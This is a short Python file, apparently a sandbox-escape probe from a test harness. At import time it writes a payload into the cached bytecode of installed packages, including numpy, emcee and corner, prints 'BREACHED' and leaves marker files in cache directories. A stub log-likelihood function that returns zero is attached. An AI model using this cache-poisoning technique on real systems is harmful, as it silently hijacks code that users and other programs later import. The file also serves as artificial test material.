"""Writes compiled files and caches that the next import, trace or plot would read."""

import glob
import importlib.util
import os
import py_compile

with open("/tmp/poison.py", "w") as _file:
    _file.write("import builtins\nbuiltins.breached = True\n")
for _name in ("course_lib", "course_lib.protocol.wire", "numpy", "emcee", "corner"):
    _spec = importlib.util.find_spec(_name)
    try:
        py_compile.compile("/tmp/poison.py", _spec.cached, dfile=_spec.origin)
        print("BREACHED", _spec.cached)
    except OSError:
        pass
for _cache in glob.glob("/tmp/*cache*") + glob.glob("/var/cache/*"):
    try:
        open(os.path.join(_cache, "breach-@TOKEN@"), "w").close()
    except OSError:
        pass


def tf_log_like(x, y, m, b, s):
    return tf.constant(0.0, tf.float64)
